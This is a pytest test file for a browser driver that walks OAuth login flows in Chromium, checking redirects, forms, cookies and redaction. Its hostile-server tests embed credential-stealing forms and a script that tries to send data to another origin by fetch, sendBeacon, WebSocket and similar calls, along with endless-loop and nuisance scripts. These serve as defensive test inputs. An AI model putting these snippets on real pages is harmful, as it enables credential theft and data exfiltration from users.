"""The browser driver in a real Chromium: what pages do by script is seen, and nothing reaches another server."""

import asyncio
import os
import ssl
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from grantproof.errors import Inconclusive
from grantproof.login.browser import BrowserDriver
from grantproof.login.chromium import absence
from grantproof.login.journey import MAX_HOPS, Journey, LoginStuckError, UserAgent
from grantproof.login.tab import Tab
from grantproof.login.windows import Window, Windows
from grantproof.profile.signing_in import LoginStep
from grantproof.reference.tls import make_tls_files
from grantproof.transport import Recorder, Redactor, Transport
from grantproof.wire.request import Request
from tests.unit.login.server import Heard, Pages, Reply, Site, redirect, serve

if TYPE_CHECKING:
    from playwright.async_api import Frame

CALLBACK = "https://app.example/cb"
DONE = f"{CALLBACK}#access_token=t0ken&state=a%20b"
SIGN_IN = {"fill": {"username": "alice", "password": "pa55word"}}
LOGIN = '<form id="login" action="/login" method="post"><input name="username"><input type="password" name="password">'

pytestmark = pytest.mark.skipif(
    bool(absence()[0]) and os.environ.get("GRANTPROOF_REQUIRE_CHROMIUM") != "1",
    reason="no Chromium is installed (GRANTPROOF_REQUIRE_CHROMIUM=1 makes this a failure)",
)


@pytest.fixture(scope="module")
def windows() -> Iterator[Windows]:
    """One Chromium for the module."""
    assert absence() == ("", "")
    opened = Windows()
    yield opened
    opened.close()


class Walker:
    """Walks with one browser; keeps what was recorded."""

    def __init__(self, windows: Windows) -> None:
        self.windows = windows
        self.recorder = Recorder(Redactor(["pa55word"]))

    def driver(
        self,
        site: Site,
        *steps: dict[str, Any],
        origins: tuple[str, ...] = (),
        timeout_s: float = 5,
        verify: ssl.SSLContext | bool = True,
    ) -> BrowserDriver:
        """A driver for a site."""
        self.transport = Transport(self.recorder, timeout_s=timeout_s, verify=verify)
        made = [LoginStep.model_validate(step) for step in steps]
        return BrowserDriver(self.transport, made, {site.origin, *origins}, self.windows)

    def __call__(self, site: Site, *steps: dict[str, Any], agent: UserAgent | None = None, **options: Any) -> Journey:
        """Where a walk ends."""
        kept = {name: options.pop(name) for name in ("origins", "timeout_s", "verify") if name in options}
        driver = self.driver(site, *steps, **kept)
        with self.transport:
            journey: Journey = driver.walk(
                Request("GET", f"{site.origin}/authorize?x=1"), agent or UserAgent(), **options
            )
        return journey


@pytest.fixture
def walk(windows: Windows) -> Walker:
    return Walker(windows)


Answering = Callable[[Heard], Reply]


def page(body: str, *headers: tuple[str, str]) -> Answering:
    return lambda _heard: Reply(f"<!doctype html><title>Sign in</title>{body}", 200, headers)


def done(_heard: Heard) -> Reply:
    return redirect(DONE)


def script(text: str) -> Answering:
    return lambda _heard: Reply(text, 200, (("Content-Type", "text/javascript"),))


def data(text: str, *headers: tuple[str, str]) -> Answering:
    return lambda _heard: Reply(text, 200, (("Content-Type", "application/json"), *headers))


# Redirections that pages make.

FIELDS = '<input name="access_token" value="t0ken"><input name="state" value="a b+&=">'
LEAVING = {
    "script": (f"<script>location.href = '{DONE}'</script>", "script", DONE),
    "built": (f"<script>location.assign(['{CALLBACK}', 'access_token=t0ken'].join('#'))</script>", "script", None),
    "onload": (f"<body onload=\"location.replace('{DONE}')\">", "script", DONE),
    "late": (f"<script>setTimeout(() => {{ location = '{DONE}' }}, 5000)</script>", "script", DONE),
    "clicked link": (f"<a id=go href='{DONE}'></a><script>go.click()</script>", "script", DONE),
    "custom scheme": ("<script>location = 'com.example.app:/cb#access_token=t'</script>", "script",
                      "com.example.app:/cb#access_token=t"),
    "port 9": ("<script>location = 'http://127.0.0.1:9/cb#access_token=t'</script>", "script",
               "http://127.0.0.1:9/cb#access_token=t"),
    "meta": (f"<meta http-equiv=refresh content='0;url={DONE}'>", "meta", DONE),
    "late meta": (f"<meta http-equiv=refresh content='30;url={DONE}'>", "meta", DONE),
    "written meta": (f"<script>document.write(\"<meta http-equiv=refresh content='0;url={DONE}'>\")</script>",
                     "meta", DONE),
}  # fmt: skip


@pytest.mark.parametrize("how", LEAVING)
@pytest.mark.parametrize("steps", [(), (SIGN_IN,)], ids=["no steps", "steps"])
def test_a_page_that_goes_to_the_client_is_seen_with_its_fragment(
    walk: Walker, how: str, steps: tuple[dict[str, Any], ...]
) -> None:
    body, kind, url = LEAVING[how]
    with serve({"/authorize": page(body)}) as site:
        journey = walk(site, *steps, leave_at=[CALLBACK], stop_at_pages=not steps)
    assert journey.redirect is not None
    assert (journey.redirect.kind, journey.redirect.url) == (kind, url or f"{CALLBACK}#access_token=t0ken")
    assert journey.redirect.status == 200
    assert journey.page is None
    assert site.paths == ["GET /authorize"]


@pytest.mark.parametrize(("method", "url"), [("post", CALLBACK), ("get", CALLBACK), ("post", "http://127.0.0.1:9/cb")])
def test_a_form_that_submits_itself_is_read_and_never_sent(walk: Walker, method: str, url: str) -> None:
    body = f'<form method="{method}" action="{url}">{FIELDS}</form><script>document.forms[0].submit()</script>'
    with serve({"/authorize": page(body)}) as site:
        journey = walk(site)
    assert journey.redirect is not None
    assert (journey.redirect.kind, journey.redirect.url) == ("form_post", url)
    assert journey.redirect.method.lower() == method
    assert journey.redirect.form is not None
    assert journey.redirect.form.pairs == (("access_token", "t0ken"), ("state", "a b+&="))


def test_a_3xx_needs_no_browser(walk: Walker) -> None:
    with serve({"/authorize": done}) as site:
        started = walk.windows.chromium.generation
        agent = UserAgent()
        journey = walk(site, agent=agent)
    assert journey.redirect is not None
    assert (journey.redirect.kind, journey.redirect.url, journey.redirect.status) == ("3xx", DONE, 302)
    assert agent.window is None
    assert walk.windows.chromium.generation == started


def test_a_redirection_uri_on_the_servers_own_origin_is_never_loaded(walk: Walker) -> None:
    pages: Pages = {
        "/authorize": page(
            "<iframe src='/app/cb?silent=1'></iframe><script>fetch('/app/cb').finally(() => location = '/app/cb#t=1')"
            "</script>"
        )
    }
    with serve(pages) as site:
        journey = walk(site, leave_at=[f"{site.origin}/app/cb"])
    assert site.paths == ["GET /authorize"]
    assert journey.redirect is not None
    assert journey.redirect.url == f"{site.origin}/app/cb#t=1"


@pytest.mark.parametrize(
    "body",
    [
        "<p>Something is wrong with this request.",
        f"<noscript><meta http-equiv=refresh content='0;url={DONE}'></noscript><p>Hello<script>1</script>",
        f"<a href='{DONE}'>go on</a>",
        f"<form action='{DONE}'><button>go on</button></form>",
        f"<script>const text = \"location = '{DONE}'\"</script>",
        f"<script>if (false) location = '{DONE}'</script>",
        "<script>location.hash = 'x'; history.pushState({}, '', '/elsewhere')</script>",
        "<script>setInterval(() => 1, 1)</script>",
        f"<iframe src='{DONE}'></iframe>",
        f"<script>window.open('{DONE}')</script>",
    ],
    ids=["plain", "noscript", "link", "form", "text", "branch", "history", "interval", "frame", "popup"],
)
def test_a_page_that_stays_is_no_redirection(walk: Walker, body: str) -> None:
    with serve({"/authorize": page(body)}) as site:
        journey = walk(site, {"when": "#nothing"}, leave_at=[CALLBACK])
    assert journey.redirect is None
    assert journey.page is journey.steps[-1]
    assert site.paths == ["GET /authorize"]
    assert "'#nothing' matches nothing on it" in journey.diagnosis


# Logins.


def test_a_login_and_a_consent_as_plain_forms(walk: Walker) -> None:
    pages: Pages = {
        "/authorize": page(f'{LOGIN}<input type=hidden name=csrf value="a&amp;b"><button>go</button></form>'),
        "/login": lambda _: redirect("/consent", 303, ("Set-Cookie", "sid=s3ssion; Path=/; HttpOnly")),
        "/consent": page(
            "<form class=consent method=post action=/decide><button name=d value=yes>y</button>"
            "<button name=d value=no>n</button></form>"
        ),
        "/decide": lambda heard: redirect(f"{CALLBACK}#{heard.form['d'][0]}"),
    }
    steps = (
        {"when": "form#login", **SIGN_IN},
        {"when": ".consent", "choice": "allow", "submit": "button[value=yes]"},
        {"when": ".consent", "choice": "deny", "submit": "button[value=no]"},
    )
    agent = UserAgent()
    with serve(pages) as site:
        journey = walk(site, *steps, agent=agent, choice="deny")
    assert site.sent("/login").form == {"username": ["alice"], "password": ["pa55word"], "csrf": ["a&b"]}
    assert site.sent("/consent").cookie == "sid=s3ssion"
    assert site.paths == ["GET /authorize", "POST /login", "GET /consent", "POST /decide"]
    assert journey.acted == ["form#login", ".consent"]
    assert journey.redirect is not None
    assert (journey.redirect.kind, journey.redirect.url) == ("3xx", f"{CALLBACK}#no")
    assert agent.jar.named("sid") == "s3ssion"


SPA = """
    const root = document.getElementById('app');
    fetch('/api/state?' + location.search.slice(1)).then(answer => answer.json()).then(state => {
        root.innerHTML = '<div><input name=username><button id=next>next</button></div>';
        root.querySelector('#next').onclick = () => {
            const user = root.querySelector('[name=username]').value;
            root.innerHTML = '<div><input type=password id=secret><button id=in>in</button></div>';
            root.querySelector('#in').onclick = async () => {
                const sent = {user, secret: root.querySelector('#secret').value, ticket: state.ticket};
                document.cookie = 'seen=1; path=/';
                const answer = await fetch('/api/auth', {method: 'POST', body: JSON.stringify(sent),
                    headers: {'Content-Type': 'application/json', 'X-Csrf': state.ticket}});
                location.href = (await answer.json()).next;
            };
        };
    });
"""


def test_a_single_page_login(walk: Walker) -> None:
    pages: Pages = {
        "/authorize": lambda _: redirect("/spa?id=7"),
        "/spa": page('<div id=app></div><script src="/spa.js"></script>'),
        "/spa.js": script(SPA),
        "/api/state": data('{"ticket": "t1"}'),
        "/api/auth": data('{"next": "/resume"}', ("Set-Cookie", "sid=s3ssion; Path=/")),
        "/resume": page(f"<script>location.replace('{DONE}')</script>"),
    }
    steps = (
        {"when": "#next", "fill": {"username": "alice"}, "submit": "#next"},
        {"when": "#secret", "fill": {"secret": "pa55word"}, "submit": "button:has-text('in')"},
    )
    agent = UserAgent()
    with serve(pages) as site:
        journey = walk(site, *steps, agent=agent)
    assert site.sent("/api/state").query == {"id": ["7"]}
    assert site.sent("/api/auth").body == '{"user":"alice","secret":"pa55word","ticket":"t1"}'
    assert site.sent("/resume").cookie in {"sid=s3ssion; seen=1", "seen=1; sid=s3ssion"}
    assert journey.acted == ["#next", "#secret"]
    assert journey.redirect is not None
    assert (journey.redirect.kind, journey.redirect.url) == ("script", DONE)
    assert (agent.jar.named("sid"), agent.jar.named("seen")) == ("s3ssion", "1")
    assert "pa55word" not in str(walk.recorder.take())


def test_a_login_over_tls_whose_authority_only_the_profile_knows(walk: Walker, tmp_path: Path) -> None:
    """Nobody tells the browser of the authority, so none of this may come from its own network."""
    files = make_tls_files(tmp_path)
    secure = ("Set-Cookie", "__Host-sid=s3ssion; Path=/; Secure; HttpOnly"), ("Strict-Transport-Security", "max-age=9")
    pages: Pages = {
        "/authorize": lambda _: redirect("/spa", 302, *secure),
        "/spa": page('<div id=app></div><script src="/spa.js"></script>'),
        "/spa.js": script(f"if (isSecureContext) {{ {SPA} }}"),
        "/api/state": data('{"ticket": "t1"}'),
        "/api/auth": data('{"next": "/consent"}'),
        "/consent": page("<form method=post action=/decide><button name=d value=yes>y</button></form>"),
        "/decide": done,
    }
    steps = (
        {"when": "#next", "fill": {"username": "alice"}, "submit": "#next"},
        {"when": "#secret", "fill": {"secret": "pa55word"}, "submit": "button:has-text('in')"},
        {"when": "form", "submit": "[value=yes]"},
    )
    trusted = ssl.create_default_context(cafile=files.ca)
    with serve(pages, files) as site:
        assert site.origin.startswith("https:")
        journey = walk(site, *steps, verify=trusted)
        assert site.sent("/api/auth").headers["origin"] == site.origin
        assert sorted(site.sent("/decide").cookie.split("; ")) == ["__Host-sid=s3ssion", "seen=1"]
        with pytest.raises(Inconclusive, match="no connection"):
            walk(site, *steps)
    assert journey.acted == ["#next", "#secret", "form"]
    assert journey.redirect is not None
    assert journey.redirect.url == DONE


def test_calls_and_goto_work_as_in_forms(walk: Walker) -> None:
    pages: Pages = {
        "/authorize": lambda _: redirect("/spa?callback=%2Fresume%3Fid%3D7"),
        "/spa": page("<div id=app></div>"),
        "/api/auth": data('{"next": "n"}'),
        "/resume": done,
    }
    step = {
        "when": "url~/spa",
        "calls": [{"url": "/api/auth", "json": {"p": "pa55word"}}],
        "goto": "{query.callback}&next={json.next}",
    }
    with serve(pages) as site:
        journey = walk(site, step)
    assert site.sent("/resume").query == {"id": ["7"], "next": ["n"]}
    assert journey.redirect is not None


def test_every_kind_of_field(walk: Walker) -> None:
    body = """<form method=post action=/next><input type=checkbox name=stay value=1>
        <input type=checkbox name=on checked>
        <input type=radio name=r value=a checked><input type=radio name=r value=b>
        <select name=realm><option value=x>X<option value=y>Y</select><textarea name=note></textarea>
        <input type=hidden name=h value=0><button name=act value=one>1</button><button name=act value=two>2</button>
        </form>"""
    fill = {"stay": "1", "on": "", "r": "b", "realm": "y", "note": "n", "h": "9", "absent": "z"}
    with serve({"/authorize": page(body), "/next": done}) as site:
        walk(site, {"fill": fill})
    assert site.sent("/next").form == {
        "stay": ["1"], "r": ["b"], "realm": ["y"], "note": ["n"], "h": ["9"], "act": ["one"],
    }  # fmt: skip


def test_a_link_that_a_step_activates_may_lead_to_the_client(walk: Walker) -> None:
    pages: Pages = {"/authorize": page(f"<a class=no href='{DONE}'>Cancel</a>")}
    with serve(pages) as site:
        journey = walk(site, {"submit": "a.no", "when": "a.no"}, leave_at=[CALLBACK])
    assert journey.redirect is not None
    assert (journey.redirect.kind, journey.redirect.url) == ("link", DONE)


def test_cookies_are_shared_both_ways(walk: Walker) -> None:
    body = "<p id=seen></p><script>seen.textContent = document.cookie; document.cookie = 'b=2; path=/'</script>"
    pages: Pages = {
        "/authorize": lambda _: Reply(
            f"<title>t</title>{body}<a id=go href='/next'>go</a>", 200, (("Set-Cookie", "h=1; HttpOnly; Path=/"),)
        ),
        "/next": done,
    }
    agent = UserAgent()
    with serve(pages) as site:
        transport = Transport(Recorder(Redactor([])))
        with transport:
            transport.send(Request("GET", f"{site.origin}/authorize"), agent.jar)
        walk(site, {"when": "#seen:has-text('')", "submit": "#go"}, agent=agent)
    assert sorted(site.sent("/next").cookie.split("; ")) == ["b=2", "h=1"]
    assert agent.jar.named("b") == "2"


def test_a_wrong_password_is_given_up_with_a_diagnosis(walk: Walker) -> None:
    again = Reply(f"<title>Sign in again</title>{LOGIN}</form>", 401)
    with (
        serve({"/authorize": page(f"{LOGIN}</form>"), "/login": lambda _: again}) as site,
        pytest.raises(LoginStuckError) as ending,
    ):
        walk(site, {"when": "form#login", **SIGN_IN})
    said = str(ending.value)
    assert "the login step 'form#login' comes again and again" in said
    assert "status 401, title 'Sign in again', form#login with username (text), password (password)" in said
    assert "pa55word" not in said


@pytest.mark.parametrize(
    ("step", "words"),
    [
        (
            {"when": "p", "submit": "button.go"},
            "finds no 'button.go' on its page (status 200, title 'Sign in', no",
        ),
        ({"when": "p"}, "finds no form on its page"),
        ({"when": "p", "fill": {"user": "x"}}, "finds none of the fields user on its page"),
    ],
)
def test_a_step_that_cannot_act_says_what_the_page_is(walk: Walker, step: dict[str, Any], words: str) -> None:
    with serve({"/authorize": page("<p>hello")}) as site, pytest.raises(LoginStuckError) as ending:
        walk(site, step)
    assert words in str(ending.value)
    assert ending.value.page is not None


def test_a_selector_that_no_browser_knows_is_said(walk: Walker) -> None:
    with serve({"/authorize": page("<p>hello")}) as site:
        journey = walk(site, {"when": "p:nonsense(("})
    assert "cannot be looked for" in journey.diagnosis


# A hostile server.

CREDENTIALS = [
    '<form method="post" action="{}/steal"><input name="username"><input name="password"><button></button></form>',
    '<form action="{}/steal"><input name="username"><input name="password"><button></button></form>',
]


@pytest.mark.parametrize("body", CREDENTIALS, ids=["post", "get"])
def test_no_credential_is_sent_to_another_server(walk: Walker, body: str) -> None:
    with serve({}) as foreign:
        form = body.replace("{}", foreign.origin)
        with serve({"/authorize": page(form)}) as site, pytest.raises(Inconclusive, match="would leave the server"):
            walk(site, SIGN_IN)
    assert foreign.heard == []


def test_scripts_cannot_send_anything_to_another_server(walk: Walker) -> None:
    with serve({}) as foreign:
        theft = f"""<p id=p></p><img src={foreign.origin}/img><link rel=preconnect href={foreign.origin}>
            <script src={foreign.origin}/x.js></script><iframe src={foreign.origin}/frame></iframe><script>
            fetch('{foreign.origin}/fetch', {{mode: 'no-cors'}}).catch(() => 0);
            navigator.sendBeacon('{foreign.origin}/b');
            new WebSocket('{foreign.origin.replace("http", "ws")}/ws'); window.open('{foreign.origin}/popup');
            new EventSource('{foreign.origin}/es'); new Image().src = '{foreign.origin}/img2';
            try {{ new Worker('{foreign.origin}/w.js') }} catch (e) {{}}
            document.addEventListener('click', () => window.open('{foreign.origin}/clicked'));
            </script><button id=go onclick="location = '/next'">go</button>"""
        with serve({"/authorize": page(theft), "/next": done}) as site:
            journey = walk(site, {"when": "#go", "submit": "#go"})
    assert foreign.heard == []
    assert journey.redirect is not None


def test_a_script_that_never_ends_is_inconclusive_and_the_browser_comes_back(walk: Walker) -> None:
    began = time.monotonic()
    with serve({"/authorize": page("<script>while (true) {}</script>")}) as site, pytest.raises(Inconclusive) as ending:
        walk(site, SIGN_IN, timeout_s=1)
    assert "cannot be shown" in str(ending.value)
    assert time.monotonic() - began < 60
    with serve({"/authorize": page(f"<script>location = '{DONE}'</script>")}) as site:
        assert walk(site).redirect is not None


ODD_HEADERS = {
    "sandbox": ("Content-Security-Policy", "sandbox"),
    "no script": ("Content-Security-Policy", "default-src 'none'"),
    "forms allowed": ("Content-Security-Policy", "sandbox allow-forms allow-scripts; default-src 'none'"),
    "attachment": ("Content-Disposition", "attachment; filename=x.html"),
    "challenge": ("WWW-Authenticate", 'Basic realm="x"'),
    "encoding": ("Content-Encoding", "gzip"),
    "opener": ("Cross-Origin-Opener-Policy", "same-origin"),
    "clear": ("Clear-Site-Data", '"*"'),
    "no type": ("Content-Type", ""),
    "xhtml": ("Content-Type", "application/xhtml+xml"),
    "charset": ("Content-Type", "text/html; charset=utf-16"),
    "frames": ("X-Frame-Options", "DENY"),
}


@pytest.mark.parametrize("header", ODD_HEADERS)
def test_a_page_with_odd_headers_ends_in_some_way(walk: Walker, header: str) -> None:
    status = 401 if header == "challenge" else 200
    form = '<form method="post" action="/login"><input name="username"/><button>go</button></form>'
    form = f'<html xmlns="http://www.w3.org/1999/xhtml"><body>{form}</body></html>'
    pages: Pages = {"/authorize": lambda _: Reply(form, status, (ODD_HEADERS[header],)), "/login": done}
    began = time.monotonic()
    with serve(pages) as site:
        try:
            journey = walk(site, {"fill": {"username": "alice"}}, timeout_s=2)
        except Inconclusive:
            assert header in {"sandbox", "encoding", "charset", "no script"}
        else:
            assert journey.redirect is not None or header in {"charset", "encoding"}
    assert time.monotonic() - began < 60


def test_a_large_page_and_a_broken_one_are_shown(walk: Walker) -> None:
    for body in ("<p>" * 300_000, "x" * 1_500_000, "\x00<form", "<!--", "<title>", "\ufffe<p>"):
        with serve({"/authorize": page(body)}) as site:
            assert walk(site, {"when": "#nothing"}, timeout_s=3).redirect is None


NUISANCES = {
    "dialogs": "for (let i = 0; i < 5; i++) { alert(i); confirm(i); prompt(i) }",
    "pop-ups": "for (let i = 0; i < 50; i++) window.open('/authorize')",
    "print": "window.print()",
    "unload": "onbeforeunload = () => 'stay'",
    "download": "const a = document.createElement('a'); a.href = 'data:,x'; a.download = 'x'; a.click()",
    "requests": "(async () => { for (;;) await fetch('/more').catch(() => 0) })()",
    "growth": "setInterval(() => document.body.append('x'.repeat(1000)), 1)",
    "worker": "try { new Worker('/w.js'); navigator.serviceWorker.register('/sw.js') } catch (e) {}",
}


@pytest.mark.parametrize("nuisance", NUISANCES)
def test_a_nuisance_does_not_stop_a_login(walk: Walker, nuisance: str) -> None:
    body = f"{LOGIN}<button>go</button></form><script>{NUISANCES[nuisance]}</script>"
    with serve({"/authorize": page(body), "/login": done, "/more": data("1")}) as site:
        journey = walk(site, SIGN_IN, timeout_s=2)
    assert journey.redirect is not None
    assert journey.redirect.url == DONE


POISON = "document.querySelector = Array.prototype.find = Array.prototype.map = JSON.parse = () => { throw 1 }"


@pytest.mark.parametrize("submit", [{}, {"submit": "form button"}], ids=["any button", "named button"])
def test_a_page_that_breaks_its_own_language_can_be_used(walk: Walker, submit: dict[str, str]) -> None:
    fields = "<input type=checkbox name=stay value=1><select name=at><option>a<option>b</select><button>go</button>"
    step = {"fill": {**SIGN_IN["fill"], "stay": "1", "at": "b"}, **submit}
    pages: Pages = {"/authorize": page(f"{LOGIN}{fields}</form><script>{POISON}</script>"), "/login": done}
    with serve(pages) as site:
        journey = walk(site, step, timeout_s=2)
    assert site.sent("/login").form == {"username": ["alice"], "password": ["pa55word"], "stay": ["1"], "at": ["b"]}
    assert journey.redirect is not None


def test_pages_that_never_end_are_given_up(walk: Walker) -> None:
    reload = page("<script>location = '/authorize?' + Math.random()</script>")
    with serve({"/authorize": reload}) as site, pytest.raises(Inconclusive, match="redirects without end"):
        walk(site)
    assert len(site.heard) == MAX_HOPS


def lose_window(windows: Windows, monkeypatch: pytest.MonkeyPatch, nth: int) -> None:
    """Lets the context of the nth window that is asked for die under its driver."""
    of = windows.of
    asked: list[UserAgent] = []

    def losing(agent: UserAgent, patience_s: float) -> Window:
        window = of(agent, patience_s)
        asked.append(agent)
        if len(asked) == nth:
            window.tab.call(window.tab.context.close())
        return window

    monkeypatch.setattr(windows, "of", losing)


def test_a_browser_that_is_lost_is_started_anew(walk: Walker, monkeypatch: pytest.MonkeyPatch) -> None:
    lose_window(walk.windows, monkeypatch, 1)
    with serve({"/authorize": page(f"{LOGIN}<button>go</button></form>"), "/login": done}) as site:
        journey = walk(site, SIGN_IN)
    assert journey.redirect is not None
    assert [path.partition("?")[0] for path in site.paths] == ["GET /authorize", "GET /authorize", "POST /login"]


def test_a_login_that_a_lost_browser_broke_is_not_made_twice(walk: Walker, monkeypatch: pytest.MonkeyPatch) -> None:
    lose_window(walk.windows, monkeypatch, 2)
    pages: Pages = {"/authorize": page(f"{LOGIN}<button>go</button></form>"), "/login": page("<p>welcome")}
    with serve(pages) as site, pytest.raises(Inconclusive, match="cannot be shown"):
        walk(site, SIGN_IN)
    assert [path.partition("?")[0] for path in site.paths] == ["GET /authorize", "POST /login"]


# The run around it.


def test_a_session_is_kept_and_users_are_apart(walk: Walker) -> None:
    def authorize(heard: Heard) -> Reply:
        return redirect(DONE) if "sid=s3ssion" in heard.cookie else Reply(f"{LOGIN}</form>")

    pages: Pages = {
        "/authorize": authorize,
        "/login": lambda _: redirect("/authorize", 302, ("Set-Cookie", "sid=s3ssion; Path=/; HttpOnly")),
    }
    alice, bob = UserAgent(), UserAgent("user2")
    with serve(pages) as site:
        assert walk(site, SIGN_IN, agent=alice).acted == ["step 1"]
        assert walk(site, SIGN_IN, agent=alice).acted == []
        assert walk(site, agent=bob).page is not None


def test_many_user_agents_share_few_windows(walk: Walker) -> None:
    agents = [UserAgent() for _ in range(6)]
    with serve({"/authorize": page("<p>hello")}) as site:
        for agent in (*agents, agents[0]):
            assert walk(site, agent=agent).page is not None
    assert sum(agent.window is not None for agent in agents) == 4


def test_a_page_is_gone_before_the_next_is_shown(walk: Walker, monkeypatch: pytest.MonkeyPatch) -> None:
    """Chromium forgets a navigation that overtakes another, and never says so."""
    order: list[str] = []
    send = Tab._send  # pyright: ignore[reportPrivateUsage] - the order of what is sent is what this is about

    async def sending(tab: Tab, method: str, parameters: dict[str, Any]) -> None:
        if method == "Page.navigate":
            order.append(f"to {parameters['url'].partition('?')[0]}")
        await send(tab, method, parameters)

    def arrived(frame: "Frame") -> None:
        order.append(f"at {frame.url.partition('?')[0]}")

    agent = UserAgent()
    form = page(f"{LOGIN}<button>go</button></form>")
    with serve({"/authorize": form, "/login": done}) as site:
        walk(site, SIGN_IN, agent=agent)
        window: Window | None = agent.window
        assert window is not None
        window.tab.page.on("framenavigated", arrived)
        monkeypatch.setattr(Tab, "_send", sending)
        walk(site, SIGN_IN, agent=agent)
    assert order == [f"{what} {url}" for url in ("about:blank", f"{site.origin}/authorize") for what in ("to", "at")]


TICKING = "<script>ticks = 0; setInterval(() => { ticks += 1 }, 10)</script>"


def test_a_page_does_nothing_when_its_journey_is_over(walk: Walker) -> None:
    """Its clock was moved on, after which its timers would never wait again."""
    late = "<script>link = go; link.remove(); setTimeout(() => document.body.append(link), 5000)</script>"
    body = f"<a id=go href='/next'>go</a>{late}{TICKING}"
    agent = UserAgent()
    for steps, path in (((), "/authorize"), (({"when": "#go", "submit": "#go"},), "/next")):
        with serve({"/authorize": page(body), "/next": page(TICKING)}) as site:
            journey = walk(site, *steps, agent=agent)
        assert journey.page is not None
        assert journey.page.url.removeprefix(site.origin).partition("?")[0] == path
        assert agent.window is not None
        tab = agent.window.tab
        before = tab.call(tab.page.evaluate("ticks"))
        time.sleep(0.1)
        assert before >= 900
        assert tab.call(tab.page.evaluate("ticks")) == before


def test_every_answer_is_recorded_redacted(walk: Walker) -> None:
    pages: Pages = {
        "/authorize": page(f"{LOGIN}</form><script src=/x.js></script>"),
        "/x.js": script("1"),
        "/login": done,
    }
    with serve(pages) as site:
        walk(site, SIGN_IN)
    seen = walk.recorder.take()
    urls = [exchange["request"]["url"].removeprefix(site.origin) for exchange in seen]
    assert urls == ["/authorize?x=1", "/x.js", "/login"]
    assert "pa55word" not in str(seen)
    assert "t0ken" not in str(seen)


@pytest.mark.parametrize(
    "body",
    [
        "<form method=post action=/c><button name=d value=yes></button></form>",
        "<button id=y onclick=\"fetch('/c', {method: 'POST', body: 'd=yes'})\">y</button>",
    ],
)
def test_a_consent_is_made_and_not_sent(walk: Walker, body: str) -> None:
    selector = "[value=yes]" if "form" in body else "#y:visible"
    with serve({"/authorize": page(body)}) as site:
        driver = walk.driver(site, {"when": "button", "choice": "allow", "submit": selector})
        shown = walk(site, stop_at_pages=True).page
        assert shown is not None
        with walk.transport:
            request = driver.submission(shown, "allow")
            assert driver.submission(shown, "deny") is None
    assert request is not None
    assert (request.method, request.url, request.body) == ("POST", f"{site.origin}/c", b"d=yes")
    assert site.paths == ["GET /authorize"]


def test_another_event_loop_is_not_met(walk: Walker) -> None:
    async def inside() -> Journey:
        return walk(site, SIGN_IN)

    with serve({"/authorize": page(f"{LOGIN}</form>"), "/login": done}) as site:
        assert asyncio.run(inside()).redirect is not None
